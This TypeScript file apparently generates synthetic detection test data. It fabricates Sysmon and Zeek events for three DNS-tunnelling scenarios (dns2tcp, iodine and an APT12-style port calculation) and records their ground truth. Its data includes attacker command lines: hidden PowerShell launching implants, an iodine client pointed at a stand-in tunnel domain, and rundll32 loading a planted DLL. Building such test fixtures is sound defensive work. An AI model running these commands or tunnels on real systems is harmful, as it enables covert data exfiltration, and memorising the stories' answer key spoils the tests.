import { readGzipLines } from './gzip_lines.ts';
import { FIN_WS01, FIN_WS03, type Host, MKT_WS04 } from './office.ts';
import { minute, type Scene, started } from './scene.ts';
import { asked, connected, type Process } from './sysmon_event.ts';
import { type RecordedConnection, roundSeconds, type ZeekDns, zeekUid } from './zeek_record.ts';

/** The truth about one story, as stories.json tells it. Times are ISO 8601 UTC. */
export interface Story {
  name: string;
  analytic: 'AN1121' | 'AN0728';
  host: string;
  process_guid: string;
  image: string;
  registered_domain: string;
  first_event: string;
  last_event: string;
  /** events of the process (Sysmon) and of its look-ups (Zeek) */
  events: { sysmon_1: number; sysmon_3: number; sysmon_22: number; zeek_dns: number };
  answers?: { address: string; port: number; connections: number }[];
}

const SYSTEM32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;

const recorded = <Line>(name: string): Line[] =>
  readGzipLines<Line>(`${import.meta.dirname}/recorded/${name}.ndjson.gz`);

/** Recorded seconds → milliseconds in the sample: only the whole recording is moved, gaps stay as recorded. */
const shiftTo = (first: number, start: number) => (seconds: number) => start + (seconds - first) * 1000;

const iso = (at: number): string => new Date(Math.round(at)).toISOString();

/** The recorded record at its new time; letters in lower case, as Zeek logs names by default. */
const moved = (record: ZeekDns, at: number): ZeekDns => ({
  ...record,
  ts: roundSeconds(at / 1000),
  query: record.query.toLowerCase(),
});

interface Link {
  image: string;
  commandLine: string;
}

/** Event 1 for each link of a lineage, oldest first; the last is the implant. */
const startLineage = (scene: Scene, at: number, explorer: Process, links: readonly Link[]): Process => {
  let parent = explorer;
  for (const [index, link] of links.entries()) {
    const when = at - (links.length - index) * 4000 + scene.random.between(0, 2500);
    parent = started(scene, when, { host: explorer.host, ...link, parent });
  }
  return parent;
};

type Truth = Omit<Story, 'host' | 'process_guid' | 'image'>;

const describe = (process: Process, { name, analytic, ...truth }: Truth): Story => ({
  name,
  analytic,
  host: process.host.name,
  process_guid: process.guid.toLowerCase(),
  image: process.image,
  ...truth,
});

/** dns2tcp's names and gaps on the event-22 envelope of a python implant that uses the Windows resolver. */
const composeDns2tcp = (scene: Scene, explorer: Process): Story => {
  const records = recorded<ZeekDns>('dns2tcp.dns');
  const begin = minute(41.3);
  const at = shiftTo(records[0]?.ts ?? 0, begin);
  const document = `${FIN_WS01.profile}\\Downloads\\Invoice_0310.docm`;
  const folder = `${FIN_WS01.profile}\\AppData\\Local\\Temp\\pyrt`;
  const implant = startLineage(scene, begin, explorer, [
    {
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${document}"`,
    },
    {
      image: POWERSHELL,
      commandLine: `powershell.exe -nop -w hidden -c "& '${folder}\\python.exe' '${folder}\\sync.py'"`,
    },
    { image: `${folder}\\python.exe`, commandLine: `"${folder}\\python.exe" ${folder}\\sync.py` },
  ]);
  const written = records.map((record) => at(record.ts + (record.rtt ?? 3)) + 1);
  for (const [index, record] of records.entries()) {
    const answer = record.answers ? { results: ['type:  16 '] } : { status: 1460 };
    scene.sysmon.push(asked(implant, written[index] ?? begin, { name: record.query, ...answer }));
    const port = scene.random.whole(49152, 65535);
    const uid = zeekUid(FIN_WS01.ip, port, '10.20.30.10', 53, 'udp', index);
    scene.zeek.push({ ...moved(record, at(record.ts)), uid, 'id.orig_p': port });
  }
  return describe(implant, {
    name: 'dns2tcp tunnel through the Windows resolver',
    analytic: 'AN1121',
    registered_domain: 'example.org',
    first_event: iso(begin),
    last_event: iso(Math.max(...written)),
    events: { sysmon_1: 1, sysmon_3: 0, sysmon_22: records.length, zeek_dns: records.length },
  });
};

/** iodine with a socket of its own: no event 22, one event 3 with the recorded port, the rest only on the wire. */
const composeIodine = (scene: Scene, explorer: Process): Story => {
  const records = recorded<ZeekDns>('iodine.dns');
  const begin = minute(66.8);
  const first = records[0];
  if (!first) throw new Error('no iodine records');
  const at = shiftTo(first.ts, begin);
  const image = `${FIN_WS03.profile}\\AppData\\Roaming\\netdiag\\netdiag.exe`;
  const implant = startLineage(scene, begin, explorer, [
    {
      image: `${SYSTEM32}cmd.exe`,
      commandLine: `cmd.exe /c "${FIN_WS03.profile}\\Downloads\\netdiag_setup.cmd"`,
    },
    { image, commandLine: `"${image}" -f -r -T TXT 203.0.113.53 t.upd-cache.example.net` },
  ]);
  scene.sysmon.push(
    connected(implant, begin + 2, {
      protocol: 'udp',
      sourceIp: first['id.orig_h'],
      sourcePort: first['id.orig_p'],
      destinationIp: first['id.resp_h'],
      destinationPort: first['id.resp_p'],
    }),
  );
  for (const record of records) scene.zeek.push(moved(record, at(record.ts)));
  return describe(implant, {
    name: 'iodine tunnel with a resolver of its own',
    analytic: 'AN1121',
    registered_domain: 'example.net',
    first_event: iso(begin),
    last_event: iso(at(records.at(-1)?.ts ?? 0)),
    events: { sysmon_1: 1, sysmon_3: 1, sysmon_22: 0, zeek_dns: records.length },
  });
};

const countAnswers = (connections: readonly RecordedConnection[]): NonNullable<Story['answers']> => {
  const counts = new Map<string, { address: string; port: number; connections: number }>();
  for (const { 'id.resp_h': address, 'id.resp_p': port } of connections) {
    const known = counts.get(address);
    counts.set(address, { address, port, connections: (known?.connections ?? 0) + 1 });
  }
  return [...counts.values()];
};

/** APT12's DNS calculation: answers, ports and lags as recorded, on the envelope of a rundll32. */
const composeDnsCalculation = (scene: Scene, explorer: Process): Story => {
  const records = recorded<ZeekDns>('dns_calculation.dns');
  const connections = recorded<RecordedConnection>('dns_calculation.conn');
  const begin = minute(88.5);
  const at = shiftTo(records[0]?.ts ?? 0, begin);
  const script = `${MKT_WS04.profile}\\Downloads\\press_kit.js`;
  const library = `${MKT_WS04.profile}\\AppData\\Roaming\\Microsoft\\Network\\ncsvc.dll`;
  const implant = startLineage(scene, begin, explorer, [
    { image: `${SYSTEM32}wscript.exe`, commandLine: `"${SYSTEM32}wscript.exe" "${script}"` },
    { image: POWERSHELL, commandLine: `powershell.exe -w hidden -c "rundll32.exe ${library},Start"` },
    { image: `${SYSTEM32}rundll32.exe`, commandLine: `rundll32.exe ${library},Start` },
  ]);
  for (const record of records) {
    const results = (record.answers ?? []).map((address) => `::ffff:${address}`);
    scene.sysmon.push(asked(implant, at(record.ts + (record.rtt ?? 0)) + 1, { name: record.query, results }));
    scene.zeek.push(moved(record, at(record.ts)));
  }
  for (const connection of connections) {
    scene.sysmon.push(
      connected(implant, at(connection.ts), {
        protocol: 'tcp',
        sourceIp: connection['id.orig_h'],
        sourcePort: connection['id.orig_p'],
        destinationIp: connection['id.resp_h'],
        destinationPort: connection['id.resp_p'],
      }),
    );
  }
  return describe(implant, {
    name: 'DNS calculation, port = o1 * o2 + o3 of the answer',
    analytic: 'AN0728',
    registered_domain: 'example.com',
    first_event: iso(begin),
    last_event: iso(at(connections.at(-1)?.ts ?? 0)),
    events: {
      sysmon_1: 1,
      sysmon_3: connections.length,
      sysmon_22: records.length,
      zeek_dns: records.length,
    },
    answers: countAnswers(connections),
  });
};

export const composeStories = (scene: Scene, explorers: ReadonlyMap<Host, Process>): Story[] => {
  const explorerOf = (host: Host): Process => {
    const explorer = explorers.get(host);
    if (!explorer) throw new Error(`${host.name} has nobody at it`);
    return explorer;
  };
  return [
    composeDns2tcp(scene, explorerOf(FIN_WS01)),
    composeIodine(scene, explorerOf(FIN_WS03)),
    composeDnsCalculation(scene, explorerOf(MKT_WS04)),
  ];
};
